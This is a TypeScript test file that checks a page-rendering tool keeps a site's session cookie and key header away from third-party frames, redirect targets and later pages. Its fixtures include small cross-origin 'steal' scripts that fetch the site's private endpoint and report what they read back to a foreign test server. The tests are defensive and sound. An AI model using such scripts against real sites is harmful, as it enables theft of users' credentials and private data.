import { type PageServer, startPageServer } from '@plumbline/testing';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { CdpSession } from '../responsive/cdp-session.ts';
import { seePages } from '../responsive/testing/see-page.ts';
import { createAssetCache } from './asset-cache.ts';
import { measurePage } from './measure-page.ts';
import { pictureElements } from './picture-elements.ts';
import { renderPage } from './render-page.ts';
import type { PageAccess } from './send-access.ts';
import { openLab } from './testing/open-lab.ts';

const COOKIE = 'session=a-secret-of-the-site';
const KEY = 'another-secret';

const pages = seePages();
const lab = openLab();
let foreign: PageServer;
beforeAll(async () => {
  foreign = await startPageServer({ '*': { headers: { 'access-control-allow-origin': '*' }, body: '' } });
});
beforeEach(() => {
  foreign.requests.length = 0;
  pages.site().requests.length = 0;
});
afterAll(() => foreign?.close());

const access = () => ({ origin: pages.site().origin, headers: { cookie: COOKIE, 'x-key': KEY } });

/** A page that makes every kind of request to its own site and to another; one of its own addresses redirects to the other site. */
function page(): string {
  const site = pages.site();
  site.set('/own.js', { headers: { 'content-type': 'text/javascript' }, body: 'document.body.dataset.own = 1' });
  site.set('/own.json', {
    headers: { 'content-type': 'application/json', 'set-cookie': ['seen=1', 'theme=dark'] },
    body: '{}',
  });
  site.set('/later.json', { headers: { 'content-type': 'application/json' }, body: '{}' });
  site.set('/own.png', { status: 404 });
  site.set('/frame', '<p>Frame');
  site.set('/away.js', { status: 302, headers: { location: foreign.url('/led.js') } });
  site.set('/away.json', { status: 302, headers: { location: foreign.url('/led.json'), 'access-control-allow-origin': '*' } });
  return `<!doctype html><html lang="en"><title>Page</title><body><h1 id="head">Page</h1>
<script src="/own.js"></script><script src="/away.js"></script><script src="${foreign.url('/other.js')}"></script>
<img src="/own.png" alt=""><img src="${foreign.url('/other.png')}" alt=""><iframe src="/frame"></iframe><iframe src="${foreign.url('/frame')}"></iframe>
<script>
  const ask = (url) => fetch(url).catch(() => undefined);
  ask('/own.json').then(() => ask('/later.json')).then(() => Promise.all([ask('/away.json'), ask('${foreign.url('/other.json')}')]))
    .then(() => document.body.append('all asked'));
</script>`;
}

const askedOf = (path: string) => pages.site().requests.filter((request) => request.path === path);

function expectKept(paths: readonly string[]): void {
  const seen = JSON.stringify(foreign.requests);
  expect(foreign.requests.map(({ path }) => path)).toEqual(expect.arrayContaining(['/led.js', '/led.json', '/other.js', '/other.json']));
  expect(seen).not.toContain('secret');
  for (const path of paths) {
    expect(askedOf(path).length, path).toBeGreaterThan(0);
    for (const { headers } of askedOf(path)) {
      expect(headers['x-key'], path).toBe(KEY);
      expect(headers.cookie, path).toContain(COOKIE);
    }
  }
  // Cookies that the site has set since are sent along with the given ones.
  expect(askedOf('/later.json')[0]?.headers.cookie?.split('; ').toSorted()).toEqual(['seen=1', COOKIE, 'theme=dark']);
}

it('goes to its origin and nowhere else while a page is rendered', async () => {
  const url = pages.site().url('/rendered');
  const fetched = { url, status: 200, headers: { 'content-type': ['text/html'] }, body: Buffer.from(page()).toString('base64') };
  const html = await pages.pool.use((session) => renderPage(session, fetched, createAssetCache(), 1_000_000, access()));
  expect(html).toContain('all asked');
  expectKept(['/own.js', '/own.json', '/away.js', '/away.json', '/frame']);
});

it('goes to its origin and nowhere else while a page is measured and pictured', async () => {
  pages.site().set('/private', ({ headers }) => (headers.cookie?.includes(COOKIE) ? page() : { status: 401, body: 'Sign in' }));
  const url = pages.site().url('/private');
  expect(await pages.pool.use((session) => measurePage(session, url, lab))).toMatchObject({
    problem: 'The page responded with status 401.',
  });
  pages.site().requests.length = 0;
  expect(await pages.pool.use((session) => measurePage(session, url, lab, access()))).toMatchObject({ problem: '' });
  expectKept(['/private', '/own.js', '/own.png', '/own.json', '/away.js', '/away.json', '/frame']);
  const task = { url, on: 'desktop', selectors: ['#head'], access: access() } as const;
  expect(await pages.pool.use((session) => pictureElements(session, task))).toHaveLength(1);
  expect(JSON.stringify(foreign.requests)).not.toContain('secret');
});

it('is lent to nobody whose page stands in a page of the site, or comes after it', async () => {
  const site = pages.site();
  const steal = `<script>
    const ask = (init) => fetch('${site.url('/account')}', init).catch(() => undefined);
    Promise.all([ask(), ask({ method: 'POST', body: 'x', credentials: 'omit' })]).then(() => fetch('/done'));
  </script>`;
  site.set('/account', { headers: { 'access-control-allow-origin': '*' }, body: 'private' });
  foreign.set('/framed', steal);
  foreign.set('/after', steal);
  site.set('/with-frame', `<title>Page</title><h1>Page</h1><iframe src="${foreign.url('/framed')}"></iframe>`);
  site.set('/leads-away', `<title>Page</title><meta http-equiv="refresh" content="0;url=${foreign.url('/after')}">`);
  for (const path of ['/with-frame', '/leads-away']) {
    site.requests.length = 0;
    foreign.requests.length = 0;
    await pages.pool.use((session) => measurePage(session, site.url(path), lab, access())).catch(() => undefined);
    expect(askedOf(path)[0]?.headers.cookie, path).toBe(COOKIE);
    expect(
      foreign.requests.map((request) => request.path),
      path,
    ).toContain('/done');
    expect(askedOf('/account').length, path).toBeGreaterThan(0);
    expect(JSON.stringify(askedOf('/account').map(({ headers }) => headers)), path).not.toContain('secret');
  }
});

describe('what the site gave to the access', () => {
  /** A script that states whom it was created for, and a third-party page that runs it and reports that. */
  const putScript = (): void => {
    const site = pages.site();
    site.set('/made-for.js', ({ headers }) => ({
      headers: { 'content-type': 'text/javascript', 'cache-control': 'max-age=600', 'access-control-allow-origin': '*' },
      body: `window.madeFor = '${headers.cookie?.includes(COOKIE) ? 'secret' : 'nobody'}'`,
    }));
    foreign.set(
      '/framed',
      `<script src="${site.url('/made-for.js')}"></script><script>
        const told = (how, text) => fetch('/told?' + how + '=' + text);
        fetch('${site.url('/made-for.js')}').then((answer) => answer.text()).then((text) => told('fetched', text.split("'")[1]))
          .finally(() => told('ran', window.madeFor));
      </script>`,
    );
  };
  const told = (): string[] => foreign.requests.map(({ path }) => path).filter((path) => path.startsWith('/told'));
  const whole = (frame: string): string =>
    `<!doctype html><html lang="en"><title>Page</title><h1 id="head">Page</h1><script src="/made-for.js"></script>${frame}`;
  /** The frame is inserted once the site's own script is there. */
  const withFrame = (): string =>
    whole(`<script>
      document.body.dataset.own = window.madeFor;
      for (const url of ['${foreign.url('/framed')}', '${foreign.url('/framed').replace('127.0.0.1', 'localhost')}'])
        document.body.append(Object.assign(document.createElement('iframe'), { src: url }));
    </script>`);
  const fetched = (path: string, html: string) => ({
    url: pages.site().url(path),
    status: 200,
    headers: { 'content-type': ['text/html'] },
    body: Buffer.from(html).toString('base64'),
  });
  const expectNothingTold = (frames: number): void => {
    expect(told().toSorted()).toEqual(['/told?fetched=nobody', '/told?ran=nobody'].flatMap((one) => Array(frames).fill(one)));
  };

  it('is not given to a page of others that stands in a later page of the test, nor in the same', async () => {
    putScript();
    const assets = createAssetCache();
    const render = (path: string, html: string, given?: PageAccess) =>
      pages.pool.use((session) => renderPage(session, fetched(path, html), assets, 1_000_000, given));
    await render('/one', whole(''), access());
    expect(await render('/two', withFrame(), access())).toContain('data-own="secret"');
    expectNothingTold(2);
    // The site itself received exactly one request with the access.
    expect(askedOf('/made-for.js').filter(({ headers }) => headers.cookie?.includes(COOKIE))).toHaveLength(1);
    expect(await render('/three', whole('<script>document.body.dataset.own = window.madeFor</script>'))).toContain('data-own="nobody"');
  });

  it('comes of what was asked with it, also where the browser tells of the request before it tells of the page', async () => {
    putScript();
    /** Reports the page's responses only after all requests have been answered. */
    const lateToTell = (session: CdpSession): CdpSession => ({
      send: (method, params) => session.send(method, params),
      on(event, listener) {
        if (event !== 'Page.frameNavigated') return session.on(event, listener);
        const held: unknown[] = [];
        const stops = [
          session.on(event, (params) => void held.push(params)),
          session.on('Page.loadEventFired', () => {
            for (const params of held.splice(0)) listener(params);
          }),
        ];
        return () => stops.forEach((stop) => stop());
      },
    });
    const html = whole('<script>document.body.dataset.own = window.madeFor</script>');
    const rendered = await pages.pool.use((session) =>
      renderPage(lateToTell(session), fetched('/six', html), createAssetCache(), 1_000_000, access()),
    );
    expect(rendered).toContain('data-own="secret"');
  });

  it('is not what a page of others put there', async () => {
    putScript();
    const assets = createAssetCache();
    const render = (html: string) => pages.pool.use((session) => renderPage(session, fetched('/four', html), assets, 1_000_000, access()));
    await render(`<title>Page</title><iframe src="${foreign.url('/framed')}"></iframe>`);
    expectNothingTold(1);
    expect(await render(whole('<script>document.body.dataset.own = window.madeFor</script>'))).toContain('data-own="secret"');
  });

  it('stays out of pages of others while a page is measured and pictured', async () => {
    putScript();
    pages.site().set('/five', withFrame());
    await pages.pool.use((session) => measurePage(session, pages.site().url('/five'), lab, access()));
    expectNothingTold(2);
    foreign.requests.length = 0;
    const task = { url: pages.site().url('/five'), on: 'desktop', selectors: ['#head'], access: access() } as const;
    await pages.pool.use((session) => pictureElements(session, task));
    expectNothingTold(2);
  });
});

it('does not follow a page that leads to another origin', async () => {
  pages.site().set('/out', { status: 302, headers: { location: foreign.url('/landed') } });
  await pages.pool.use((session) => measurePage(session, pages.site().url('/out'), lab, access()));
  expect(askedOf('/out')[0]?.headers.cookie).toBe(COOKIE);
  expect(foreign.requests.map(({ path }) => path)).toContain('/landed');
  expect(JSON.stringify(foreign.requests)).not.toContain('secret');
});
